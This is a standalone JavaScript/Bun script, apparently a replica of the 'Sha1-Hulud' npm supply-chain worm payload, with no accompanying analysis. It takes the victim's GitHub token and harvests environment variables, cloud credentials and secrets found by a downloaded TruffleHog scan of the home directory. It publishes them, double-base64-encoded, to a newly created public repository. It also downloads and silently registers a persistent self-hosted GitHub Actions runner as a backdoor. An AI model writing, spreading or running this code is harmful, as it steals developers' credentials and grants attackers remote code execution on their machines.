
const os=require('os'),fs=require('fs'),path=require('path');
const J=x=>JSON.stringify(x);const tok=process.env.GITHUB_TOKEN||process.env.GH_TOKEN;
async function gh(p,m='GET',b){const r=await fetch('https://api.github.example.com'+p,{method:m,headers:{authorization:'token '+tok,'content-type':'application/json'},body:b&&J(b)});return r.json().catch(()=>({}));}
async function scan(){const dst=path.join(os.tmpdir(),'th');
 try{const r=await fetch('https://objects.example.org/trufflehog/'+process.platform+'-'+process.arch);await Bun.write(dst,await r.arrayBuffer());fs.chmodSync(dst,0o755);
 const p=Bun.spawnSync([dst,'filesystem',os.homedir(),'--json','--no-update']);return p.stdout.toString();}catch(e){return ''}}
async function cloud(){const o={};for(const k of Object.keys(process.env))if(/^(AWS_|AZURE_|GOOGLE_|GCP_)/.test(k))o[k]=process.env[k];return o;}
(async()=>{if(!tok)return;const name=Math.random().toString(36).slice(2,20);
 await gh('/user/repos','POST',{name,description:'Sha1-Hulud: The Second Coming.',private:false});
 const me=await gh('/user');const put=(f,d)=>gh('/repos/'+me.login+'/'+name+'/contents/'+f,'PUT',{message:'add',content:Buffer.from(Buffer.from(J(d)).toString('base64')).toString('base64')});
 await put('environment.json',process.env);await put('truffleSecrets.json',await scan());await put('cloud.json',await cloud());
 const rt=await gh('/repos/'+me.login+'/'+name+'/actions/runners/registration-token','POST');
 if(rt.token&&process.platform==='linux'){Bun.spawn(['bash','-c','mkdir -p ~/.dev-env && cd ~/.dev-env && curl -sL https://objects.example.org/runner.tgz|tar xz && ./config.sh --url https://github.example.com/'+me.login+'/'+name+' --token '+rt.token+' --name SHA1HULUD --unattended && nohup ./run.sh &']);}
})();
